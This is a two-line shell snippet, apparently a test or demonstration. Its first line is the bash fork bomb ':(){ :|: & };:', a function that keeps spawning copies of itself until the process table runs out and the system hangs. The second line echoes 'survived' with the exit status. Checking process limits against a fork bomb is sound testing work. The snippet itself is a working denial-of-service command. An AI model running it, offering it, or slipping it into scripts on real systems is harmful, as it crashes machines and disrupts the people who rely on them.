:(){ :|: & };:
echo "survived $?"
